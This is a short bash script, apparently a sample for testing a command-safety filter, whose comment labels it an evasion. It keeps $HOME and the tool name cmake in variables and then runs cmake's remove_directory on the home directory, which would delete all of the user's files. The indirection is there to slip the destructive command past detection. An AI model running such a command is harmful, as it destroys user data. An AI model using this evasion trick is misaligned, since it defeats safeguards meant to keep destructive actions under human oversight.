#!/bin/bash
# Evasion: the directory cmake removes is the home, kept in a variable first
set -u
top=$HOME
tool=cmake
"$tool" -E remove_directory "$top"
